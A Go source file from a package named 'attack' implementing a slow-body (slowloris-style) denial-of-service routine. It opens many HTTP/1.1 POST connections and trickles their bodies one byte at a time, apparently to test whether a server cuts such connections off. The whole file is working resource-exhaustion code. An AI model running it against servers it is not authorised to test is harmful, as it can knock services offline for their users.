package attack

import (
	"context"
	"fmt"
	"io"
	"sync"
)

// SlowBodiesHTTP1 opens n HTTP/1.1 connections, each sending one POST whose
// body trickles in (t), and returns when ctx ends or, without
// t.Reconnect, when the server has cut every one off. A request counts as
// cut off when the server closes its connection; a server that only
// answers and keeps reading still holds it.
func SlowBodiesHTTP1(ctx context.Context, target Target, n int, t Trickle, p *Progress) {
	t = t.withDefaults()
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for slowHTTP1Request(ctx, target, t, p) && t.Reconnect && ctx.Err() == nil {
			}
		})
	}
	wg.Wait()
}

// slowHTTP1Request trickles one request; true when the server cut it off.
func slowHTTP1Request(ctx context.Context, target Target, t Trickle, p *Progress) bool {
	conn, retry := dial(ctx, target.Addr)
	if conn == nil {
		return retry
	}
	defer conn.Close()
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/proto\r\nContent-Length: %d\r\n", t.Path, target.Addr, bodyLength)
	if target.Token != "" {
		head += "Authorization: Bearer " + target.Token + "\r\n"
	}
	if _, err := io.WriteString(conn, head+"\r\n"); err != nil {
		return false
	}
	p.started.Add(1)
	closed := make(chan struct{})
	go func() {
		_, _ = io.Copy(io.Discard, conn) // until the server closes
		close(closed)
	}()
	for sent := 0; sent < bodyLength-1; sent++ {
		if !tick(ctx, closed, t.Interval) {
			break
		}
		if _, err := conn.Write([]byte{0}); err != nil {
			break // the server reset it
		}
	}
	return waitCut(ctx, closed, p)
}
